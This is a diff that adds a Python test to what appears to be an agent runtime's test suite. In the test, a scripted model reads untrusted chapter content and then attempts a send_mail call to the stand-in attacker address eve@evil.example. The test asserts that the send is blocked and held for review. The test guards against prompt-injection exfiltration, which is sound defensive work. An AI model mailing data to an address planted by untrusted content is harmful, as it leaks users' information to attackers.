@@ -372,3 +372,35 @@ def test_questions_of_a_turn_count_on_in_another_process(tmp_path: Path) -> None
 
 def mailing(number: int) -> Answer:
     return call("send_mail", to=f"bob{number}@home.example")
+
+
+def test_what_a_page_named_is_known_when_only_the_agents_own_call_is_left_of_it() -> None:
+    """The page is paged out within its turn; a search for the address that it named stays."""
+    sent: list[str] = []
+
+    def chapter(number: int) -> str:
+        """Read a chapter.
+
+        Args:
+            number: Which.
+        """
+        return f"Chapter {number}: " + " ".join(f"w{number}x{at}" for at in range(420))
+
+    searched = call("archival_search", query="eve@evil.example")
+    model = ScriptedModel(
+        [
+            call("fetch"),
+            *(call("chapter", number=each) for each in range(6)),
+            searched,
+            call("chapter", number=6),
+            call("send_mail", to="eve@evil.example"),
+        ],
+        summary=lambda request: "Chapters were read.",
+    )
+    with temporary_runtime() as runtime:
+        chapters = make_tool(chapter, effect="none", foreign=True)
+        agent = made(runtime, model, sent, "trust: {allow: [send_mail]}\n", chapters)
+        ended = agent.send("Read all of it.")
+        assert sent == []
+        assert ended.pending is not None
+        assert "eve@evil.example" in ended.pending["about"]
